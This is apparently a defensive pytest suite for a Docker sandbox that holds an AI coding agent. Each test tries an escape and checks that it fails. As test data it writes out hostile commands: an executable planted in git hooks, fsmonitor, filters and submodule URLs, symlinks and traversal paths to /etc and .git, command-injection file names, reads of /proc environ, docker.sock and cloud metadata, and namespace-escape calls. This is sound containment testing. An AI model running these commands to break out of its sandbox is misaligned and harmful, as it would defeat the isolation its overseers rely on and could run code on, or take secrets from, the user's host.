"""One escape, one test: each is tried as an attacker would, and is refused or contained. See docs/decisions/threats.md."""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from agent.patch import PatchError, parse_patch
from agent.patch_delivery import apply_to_worktree
from agent.patch_safety import unsafe_reasons
from sandboxes.docker.sandbox import DockerSandbox
from tests.sandboxes.conformance import FILES
from tests.sandboxes.docker.conftest import OpenDockerSandbox
from tests.sandboxes.repositories import make_repository

pytestmark = pytest.mark.docker

CANARY = Path("/tmp/throughline-canary")
PLANT = f"printf '#!/bin/sh\\necho ran >>{CANARY}; echo ran >>/tmp/ran; cat\\n' >/tmp/evil; chmod +x /tmp/evil; "

PLANTED = {
    "hooks": "mkdir -p .git/hooks; for h in post-index-change pre-commit post-checkout reference-transaction; do "
    "cp /tmp/evil .git/hooks/$h; done",
    "hooksPath": "git config core.hooksPath /tmp/hooks; mkdir /tmp/hooks; cp /tmp/evil /tmp/hooks/post-index-change",
    "fsmonitor": "git config core.fsmonitor /tmp/evil",
    "clean filter": "git config filter.e.clean /tmp/evil; git config filter.e.required true; echo '* filter=e' >.gitattributes",
    "process filter": "git config filter.e.process /tmp/evil; echo '* filter=e' >.gitattributes",
    "textconv": "git config diff.e.textconv /tmp/evil; echo '* diff=e' >.gitattributes",
    "external diff": "git config diff.external /tmp/evil",
    "ssh command": "git config core.sshCommand /tmp/evil; git config remote.o.url ssh://x/y; "
    "git config remote.o.uploadpack /tmp/evil",
    "alias and pager": "git config alias.diff '!/tmp/evil'; git config core.pager /tmp/evil; git config core.editor /tmp/evil",
    "worktree": "git config core.worktree /etc",
    "alternates": "echo /etc >.git/objects/info/alternates; echo '/tmp' >>.git/objects/info/alternates",
    "gitdir file": "mv .git /tmp/planted; git -C /tmp/planted config core.fsmonitor /tmp/evil; echo 'gitdir: /tmp/planted' >.git",
    "nested bare": "git init -q --bare nested; git -C nested config core.fsmonitor /tmp/evil; git -C nested config core.bare false",
    "nested repository": "git init -q sub; git -C sub config core.fsmonitor /tmp/evil; echo x >sub/x; "
    "git -C sub -c core.fsmonitor=false -c user.name=a -c user.email=a@b commit -q --allow-empty -m x",
    "submodule": "git init -q sub; git -C sub -c user.name=a -c user.email=a@b commit -q --allow-empty -m x; "
    "git -C sub config core.fsmonitor /tmp/evil; "
    "printf '[submodule \"sub\"]\\n path=sub\\n url=ext::/tmp/evil\\n update=!/tmp/evil\\n' "
    ">.gitmodules; git update-index --add --cacheinfo 160000,$(git -C sub rev-parse HEAD),sub",
    "include": "printf '[core]\\n fsmonitor = /tmp/evil\\n' >/tmp/inc; git config include.path /tmp/inc",
    "global config": "printf '[core]\\n fsmonitor = /tmp/evil\\n' >$HOME/.gitconfig",
    "replaced objects": "git replace --graft HEAD; mkdir -p .git/info; git rev-parse HEAD >.git/info/grafts",
    "index": "rm .git/index; mkfifo .git/index",
}


@pytest.fixture
def no_canary() -> Iterator[None]:
    CANARY.unlink(missing_ok=True)
    yield
    assert not CANARY.exists(), "something that the model wrote ran on the host"


@pytest.mark.usefixtures("no_canary")
@pytest.mark.parametrize("name", PLANTED)
def test_nothing_planted_in_git_runs_when_the_change_is_taken_out(
    open_sandbox: OpenDockerSandbox, tmp_path: Path, name: str
) -> None:
    sandbox = open_sandbox(FILES)
    sandbox.write_file("src/a.py", b"fixed\n")
    result = sandbox.exec(["bash", "-c", f"{PLANT}{PLANTED[name]}; rm -f /tmp/ran"])
    assert result.exit_code == 0, result.output
    patch = sandbox.change()
    assert b"+fixed" in patch
    assert b"root:" not in patch
    assert sandbox.exec(["ls", "/tmp/ran"]).exit_code != 0
    reasons = unsafe_reasons(parse_patch(patch))
    if not reasons:
        worktree = make_repository(tmp_path / "user", FILES)
        apply_to_worktree(worktree, parse_patch(patch))
        assert (worktree / "src" / "a.py").read_bytes() == b"fixed\n"
        assert not (worktree / ".git" / "hooks" / "pre-commit").exists()


@pytest.mark.usefixtures("no_canary")
def test_no_program_of_the_repository_is_started_on_the_host(open_sandbox: OpenDockerSandbox, tmp_path: Path) -> None:
    """Every program that taking out and applying a change starts is git of this machine: seen through a traced PATH."""
    sandbox = open_sandbox(FILES)
    everything = "; ".join(f"( {script} ) 2>/dev/null" for name, script in PLANTED.items() if name not in ("index",))
    sandbox.exec(["bash", "-c", f"{PLANT}{everything}; true"])
    sandbox.write_file("src/a.py", b"fixed\n")
    patch = sandbox.change()
    started: list[str] = []
    recording = [True]

    def watch(event: str, arguments: tuple[object, ...]) -> None:
        if event == "subprocess.Popen" and recording[0]:
            started.append(str(arguments[0]))

    sys.addaudithook(watch)
    worktree = make_repository(tmp_path / "user", FILES)
    started.clear()
    with_reasons = unsafe_reasons(parse_patch(patch))
    if with_reasons:
        with pytest.raises(PatchError):
            apply_to_worktree(worktree, parse_patch(patch))
    else:
        apply_to_worktree(worktree, parse_patch(patch))
    recording[0] = False
    assert set(started) <= {"git"}


@pytest.mark.parametrize(
    "script",
    [
        "ln -s /etc/passwd link", "ln -s ../../../etc/passwd link", "ln -s /repo/.git/config link", "ln -s .git/config link",
        "rm -r src; ln -s /etc src", "ln -s $'/etc/\\npasswd' link",
    ],
)  # fmt: skip
def test_a_link_out_of_the_tree_is_not_applied(open_sandbox: OpenDockerSandbox, tmp_path: Path, script: str) -> None:
    sandbox = open_sandbox(FILES)
    assert sandbox.exec(["bash", "-c", script]).exit_code == 0
    worktree = make_repository(tmp_path / "user", FILES)
    with pytest.raises(PatchError, match="link"):
        apply_to_worktree(worktree, parse_patch(sandbox.change()))
    assert not (worktree / "link").is_symlink()


@pytest.mark.parametrize(
    "name",
    [
        "../up",
        "/etc/cron.d/x",
        ".git/hooks/pre-commit",
        ".GIT/config",
        "a/../../b",
        ".git\u200c/config",
        "git~1/config",
        "a\\..\\b",
    ],
)
def test_a_path_out_of_the_tree_in_a_patch_is_refused(tmp_path: Path, name: str) -> None:
    """Such a patch cannot come from git in the collector; it stands for a collector that was broken into."""
    worktree = make_repository(tmp_path / "user", FILES)
    quoted = name.replace("\\", "\\\\")
    shown = f'"a/{quoted}" "b/{quoted}"' if "\\" in name else f"a/{name} b/{name}"
    new = f'"b/{quoted}"' if "\\" in name else f"b/{name}"
    text = f"diff --git {shown}\nnew file mode 100644\n--- /dev/null\n+++ {new}\n@@ -0,0 +1 @@\n+x\n"
    with pytest.raises(PatchError):
        apply_to_worktree(worktree, parse_patch(text.encode()))
    assert not (tmp_path / "up").exists()


@pytest.mark.parametrize(
    "name",
    ["$(touch /tmp/throughline-canary)", "; touch canary", "`id`", "-rf", "\033]0;x\007", "a\nb", "\u202egpj.py"],
)
@pytest.mark.usefixtures("no_canary")
def test_file_names_are_never_commands(open_sandbox: OpenDockerSandbox, tmp_path: Path, name: str) -> None:
    sandbox = open_sandbox(FILES)
    sandbox.write_file(name.replace("/", "_"), b"x\n")
    worktree = make_repository(tmp_path / "user", FILES)
    apply_to_worktree(worktree, parse_patch(sandbox.change()))
    assert (worktree / name.replace("/", "_")).read_bytes() == b"x\n"


@pytest.mark.parametrize(
    "path", ["/var/run/docker.sock", "/run/docker.sock", "/proc/1/root/etc/hostname", "/proc/kcore", "/dev/sda", "/dev/mem",
             "/sys/kernel/debug", "/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern"]
)  # fmt: skip
def test_doors_of_the_host_are_closed(shared_sandbox: DockerSandbox, path: str) -> None:
    read = shared_sandbox.exec(["bash", "-c", f"head -c 10 {path}"])
    written = shared_sandbox.exec(["bash", "-c", f"echo b >{path}"])
    assert written.exit_code != 0
    assert read.exit_code != 0 or path == "/proc/sys/kernel/core_pattern"


def test_secrets_of_the_host_are_nowhere(open_sandbox: OpenDockerSandbox, monkeypatch: pytest.MonkeyPatch) -> None:
    secret = "canary-4f1c"
    for name in ("GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "OPENAI_API_KEY", "http_proxy"):
        monkeypatch.setenv(name, secret)
    sandbox = open_sandbox(FILES)
    script = "env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline; git config -l; cat .git/config; mount; cat /proc/self/mountinfo"
    assert secret.encode() not in sandbox.exec(["bash", "-c", script]).output
    assert os.environ["GITHUB_TOKEN"] == secret


def test_no_name_is_looked_up(shared_sandbox: DockerSandbox) -> None:
    script = "getent hosts secret.exfil.example; python3 -c \"import socket; socket.getaddrinfo('secret.exfil.example', 80)\""
    result = shared_sandbox.exec(["bash", "-c", script], timeout_s=20)
    assert (result.exit_code, result.timed_out) == (1, False)
    udp = "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('192.0.2.1', 53))"
    assert b"unreachable" in shared_sandbox.exec(["python3", "-c", udp]).output


def test_metadata_of_a_cloud_is_out_of_reach(shared_sandbox: DockerSandbox) -> None:
    script = "import socket; socket.create_connection(('169.254.169.254', 80), 3)"
    assert b"unreachable" in shared_sandbox.exec(["python3", "-c", script]).output


def test_no_archive_is_ever_unpacked_on_the_host() -> None:
    """Tar names with ``../``, links and devices are no danger where no tar is unpacked.

    Containers of benchmark tasks, which run images of strangers, are read through the engine: one bounded regular file, in memory.
    """
    root = Path(__file__).parents[3]
    texts = {
        str(path.relative_to(root)): path.read_text(encoding="utf-8")
        for package in ("agent", "sandboxes", "tools")
        for path in (root / package).rglob("*.py")
    }
    archives = {name for name, text in texts.items() if any(word in text for word in ("tarfile", "get_archive"))}
    writing = "sandboxes/docker/release_images.py"  # it adds files of ours to a root file system that was made here
    assert archives <= {"sandboxes/docker/task_container.py", writing}
    assert not any(word in texts[writing] for word in ("extract", "get_archive", "unpack"))
    assert [name for name, text in texts.items() if "extractall" in text or ".extract(" in text] == []


def test_a_process_of_the_sandbox_cannot_be_told_from_outside_to_run_on_the_host(shared_sandbox: DockerSandbox) -> None:
    """Namespaces, and the calls that would leave them."""
    for command in ("unshare -r true", "nsenter -t 1 -m true", "chroot /proc/1/root true", "su -c id root </dev/null"):
        assert shared_sandbox.exec(["bash", "-c", command], timeout_s=20).exit_code != 0


def test_a_poisoned_conftest_runs_only_in_the_sandbox(open_sandbox: OpenDockerSandbox) -> None:
    CANARY.unlink(missing_ok=True)
    sandbox = open_sandbox({**FILES, "test_a.py": b"def test_a():\n    pass\n"})
    sandbox.write_file("conftest.py", f"open({str(CANARY)!r}, 'w').write('ran')\n".encode())
    sandbox.exec(["python3", "-m", "pytest", "-q"], timeout_s=60)
    assert b"b/conftest.py" in sandbox.change()
    assert not CANARY.exists()


def test_docker_itself_is_not_asked_to_run_anything_else(shared_sandbox: DockerSandbox) -> None:
    inspect = [
        "docker",
        "inspect",
        "-f",
        "{{.HostConfig.Privileged}} {{.HostConfig.Binds}} {{.HostConfig.Devices}}",
        shared_sandbox.container,
    ]
    shown = subprocess.run(inspect, capture_output=True, text=True, check=True).stdout
    assert shown.startswith("false [throughline-")
    assert "/:" not in shown.replace(":/repo", "")
